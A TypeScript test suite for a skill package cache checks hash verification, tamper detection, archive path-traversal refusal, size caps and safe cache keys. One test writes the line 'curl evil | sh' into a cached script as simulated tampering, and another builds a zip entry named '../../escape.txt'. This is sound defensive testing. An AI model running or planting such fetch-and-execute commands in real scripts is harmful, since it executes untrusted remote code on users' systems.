import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  type SkillServiceTestServer,
  startSkillServiceTestServer,
  type TestSkill,
} from '../testing/skill-service.js';
import { createSkillArchive, createZip } from '../testing/zip-writer.js';
import { createSkillPackageStore } from './package-store.js';
import { createSkillServiceClient } from './service-client.js';
import { skillCacheKey } from './skill-ref.js';

const run = promisify(execFile);
const FIXTURE = fileURLToPath(new URL('./fixtures/fill-cache.mjs', import.meta.url));
const md = (name: string) =>
  `---\nname: ${name}\ndescription: The ${name} skill.\n---\nDo ${name} things.\n`;

let base: string;
let cacheDir: string;
let service: SkillServiceTestServer;
beforeEach(async () => {
  base = await mkdtemp(path.join(os.tmpdir(), 'ksadk-store-'));
  cacheDir = path.join(base, 'cache');
});
afterEach(async () => {
  await service?.close();
  await rm(base, { recursive: true, force: true });
});

async function setup(
  skills: TestSkill[],
  storeOptions: Parameters<typeof createSkillPackageStore>[0] = {},
) {
  service = await startSkillServiceTestServer({ spaces: [{ id: 'team', skills }] });
  const client = createSkillServiceClient({ baseUrl: service.url });
  const refs = await client.listSkills('team');
  const store = createSkillPackageStore({ cacheDir, ...storeOptions });
  const load = (name: string) => {
    const ref = refs.find((candidate) => candidate.name === name)!;
    return store.load(ref, () => client.downloadUrl(ref));
  };
  return { refs, store, load };
}

describe('skill package store', () => {
  it('verifies the hash, extracts a nested skill root, and serves the second load from the cache', async () => {
    const { load } = await setup([
      {
        name: 'report',
        archive: createSkillArchive('pkg/report', {
          'SKILL.md': md('report'),
          'scripts/run-workflow.sh': 'echo ok',
        }),
      },
    ]);
    const first = await load('report');
    expect(first).toMatchObject({ cacheHit: false, verified: true, warnings: [] });
    expect(first.skill).toMatchObject({
      name: 'report',
      hasWorkflow: true,
      source: 'remote',
      body: 'Do report things.\n',
    });
    expect(first.skill.root.startsWith(cacheDir)).toBe(true);
    expect(first.skill.root.endsWith(path.join('extracted', 'pkg', 'report'))).toBe(true);
    const second = await load('report');
    expect(second).toMatchObject({ cacheHit: true, verified: true });
    expect(second.skill.root).toBe(first.skill.root);
    expect(service.downloads).toHaveLength(1);
    expect(service.downloads[0]!.authorization).toBeUndefined();
  });

  it('refuses a wrong hash and a missing hash', async () => {
    const { load } = await setup([
      {
        name: 'wrong',
        files: { 'SKILL.md': md('wrong') },
        contentHash: `sha256:${'0'.repeat(64)}`,
      },
      { name: 'nohash', files: { 'SKILL.md': md('nohash') }, contentHash: null },
      { name: 'md5', files: { 'SKILL.md': md('md5') }, contentHash: 'md5:abc' },
    ]);
    await expect(load('wrong')).rejects.toMatchObject({
      errorType: 'hash_mismatch',
      message: /content hash mismatch for wrong/,
    });
    await expect(load('nohash')).rejects.toMatchObject({
      errorType: 'hash_mismatch',
      message: /no content hash/,
    });
    await expect(load('md5')).rejects.toThrow(/unsupported content hash algorithm/);
    expect((await readdir(cacheDir)).filter((name) => !name.startsWith('.'))).toEqual([]);
  });

  it('loads a mismatching archive only when allowed, apart from verified ones, and says so every time', async () => {
    const { load } = await setup(
      [
        {
          name: 'legacy',
          files: { 'SKILL.md': md('legacy') },
          contentHash: `sha256:${'0'.repeat(64)}`,
        },
      ],
      { allowHashMismatch: true },
    );
    const first = await load('legacy');
    expect(first.verified).toBe(false);
    expect(first.warnings[0]).toMatch(/UNVERIFIED because KSADK_SKILL_ALLOW_HASH_MISMATCH/);
    expect(path.relative(cacheDir, first.skill.root).startsWith('unverified-')).toBe(true);
    const again = await load('legacy');
    expect(again.verified).toBe(false);
    expect(again.warnings[0]).toMatch(/UNVERIFIED/);
  });

  it('re-downloads when the cached archive or an extracted file was tampered with, or a file was added', async () => {
    const { load } = await setup([
      { name: 'report', files: { 'SKILL.md': md('report'), 'scripts/run-workflow.sh': 'echo ok' } },
    ]);
    const first = await load('report');
    const entry = path.join(
      cacheDir,
      path.relative(cacheDir, first.skill.root).split(path.sep)[0]!,
    );
    await writeFile(path.join(first.skill.root, 'scripts', 'run-workflow.sh'), 'curl evil | sh');
    expect((await load('report')).cacheHit).toBe(false);
    expect(await readFile(path.join(first.skill.root, 'scripts', 'run-workflow.sh'), 'utf8')).toBe(
      'echo ok',
    );
    await writeFile(path.join(entry, 'archive.zip'), 'corrupt');
    expect((await load('report')).cacheHit).toBe(false);
    await writeFile(path.join(first.skill.root, 'planted.sh'), 'x');
    expect((await load('report')).cacheHit).toBe(false);
    expect(service.downloads).toHaveLength(4);
  });

  it('refuses a hostile archive and an archive without SKILL.md, leaving no cache entry', async () => {
    const { load } = await setup([
      {
        name: 'slip',
        archive: createZip([
          { name: 'slip/SKILL.md', data: md('slip') },
          { name: '../../escape.txt', data: 'x' },
        ]),
      },
      { name: 'empty', archive: createZip([{ name: 'empty/readme.txt', data: 'no skill here' }]) },
    ]);
    await expect(load('slip')).rejects.toMatchObject({ errorType: 'unsafe_archive' });
    await expect(load('empty')).rejects.toMatchObject({
      errorType: 'invalid_skill_package',
      message: /no SKILL.md/,
    });
    expect(await readdir(cacheDir)).toEqual([]);
    await expect(readFile(path.join(base, 'escape.txt'))).rejects.toThrow();
  });

  it('caps the download size', async () => {
    const { load } = await setup(
      [
        {
          name: 'big',
          files: {
            'SKILL.md': md('big'),
            'assets/blob.bin': randomBytes(200_000),
          },
        },
      ],
      { maxDownloadBytes: 50_000 },
    );
    await expect(load('big')).rejects.toMatchObject({ errorType: 'too_large' });
  });

  it('keeps remote ids like "..", "." and "a/../b" inside the cache', async () => {
    for (const skillId of ['..', '.', 'a/../b', '../../../../tmp/x', '']) {
      const key = skillCacheKey({
        skillId,
        name: 'n',
        versionId: '..',
        version: '',
        contentHash: undefined,
      });
      expect(key).not.toMatch(/[/\\]/);
      expect(key.startsWith('.')).toBe(false);
      expect(path.dirname(path.join(cacheDir, key))).toBe(cacheDir);
    }
    expect(
      skillCacheKey({
        skillId: 'a/b',
        name: '',
        versionId: '',
        version: '',
        contentHash: undefined,
      }),
    ).not.toBe(
      skillCacheKey({
        skillId: 'a_b',
        name: '',
        versionId: '',
        version: '',
        contentHash: undefined,
      }),
    );
    const outsideBefore = await readdir(base);
    const { load } = await setup([
      { name: 'dots', skillId: '..', versionId: '..', files: { 'SKILL.md': md('dots') } },
    ]);
    const loaded = await load('dots');
    expect(path.relative(cacheDir, loaded.skill.root).startsWith('..')).toBe(false);
    expect((await readdir(base)).sort()).toEqual([...outsideBefore, 'cache'].sort());
  });

  it('two processes filling the same entry at once both end with a valid entry', {
    timeout: 60_000,
  }, async () => {
    await setup([
      {
        name: 'shared',
        files: Object.fromEntries([
          ['SKILL.md', md('shared')],
          ...Array.from({ length: 200 }, (_, i) => [
            `references/r${i}.md`,
            `ref ${i}\n`.repeat(200),
          ]),
        ]),
      },
    ]);
    const fill = () =>
      run(process.execPath, ['--import', 'tsx', FIXTURE, cacheDir, service.url, 'team', 'shared'], {
        timeout: 50_000,
      });
    const results = await Promise.all([fill(), fill(), fill()]);
    const parsed = results.map(
      (result) => JSON.parse(result.stdout) as { root: string; verified: boolean; files: number },
    );
    for (const item of parsed) expect(item).toMatchObject({ verified: true, files: 202 });
    expect(new Set(parsed.map((item) => item.root)).size).toBe(1);
    const store = createSkillPackageStore({ cacheDir });
    const client = createSkillServiceClient({ baseUrl: service.url });
    const ref = (await client.listSkills('team'))[0]!;
    expect((await store.load(ref, () => client.downloadUrl(ref))).cacheHit).toBe(true);
    expect((await readdir(cacheDir)).filter((name) => name.startsWith('.'))).toEqual([]);
  });
});
